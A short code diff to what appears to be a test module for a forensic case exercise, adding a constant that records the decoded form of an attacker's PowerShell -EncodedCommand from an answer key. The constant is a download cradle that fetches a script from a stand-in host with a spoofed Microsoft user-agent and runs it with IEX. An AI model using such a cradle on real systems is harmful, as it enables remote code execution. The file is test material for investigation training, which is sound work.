@@ -13,6 +13,10 @@ const REPO = fileURLToPath(new URL("../", import.meta.url));
 /** The case under test: a generated copy can be checked before it is committed. */
 export const DEMO_CASE = Deno.env.get("CASEFILE_DEMO_CASE_UNDER_TEST") ??
   join(REPO, "fixtures", "demo-case");
+/** ANSWERS.md, stage 7: what the attacker's -EncodedCommand decodes to. */
+export const CRADLE =
+  "$u='https://cdn.edgeupdate-sync.example/a/u.ps1';$w=New-Object Net.WebClient;" +
+  "$w.Headers.Add('User-Agent','Microsoft-CryptoAPI/10.0');IEX $w.DownloadString($u)";
 /** The case window from ANSWERS.md ("The case"). */
 export const CASE_START = Date.parse("2026-03-02T00:00:00Z");
 /** The end of the case window (exclusive). */
